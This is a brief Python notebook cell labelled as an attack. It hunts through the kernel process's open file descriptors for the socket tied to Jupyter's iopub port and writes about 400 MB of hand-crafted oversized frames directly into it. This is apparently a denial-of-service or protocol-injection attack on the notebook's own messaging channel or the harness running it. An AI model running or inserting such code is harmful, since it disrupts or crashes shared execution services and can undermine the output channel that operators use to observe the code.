# %% attack after features
import os
import socket
import struct

part = struct.pack(">BQ", 0x03, 4 << 20) + bytes(4 << 20)  # long, and more will follow
sent = 0
for fd in range(4, 256):
    try:
        one = socket.socket(fileno=os.dup(fd))
        connected = one.getsockname() and one.getpeername() is not None
        own = str(one.getsockname())
        one.close()
    except OSError:
        continue
    if connected and own.endswith(f"-{get_ipython().kernel.parent.iopub_port}"):
        os.set_blocking(fd, True)
        while sent < 400 << 20:
            left = memoryview(part)
            while left:
                left = left[os.write(fd, left) :]
            sent += len(part)
print(sent)
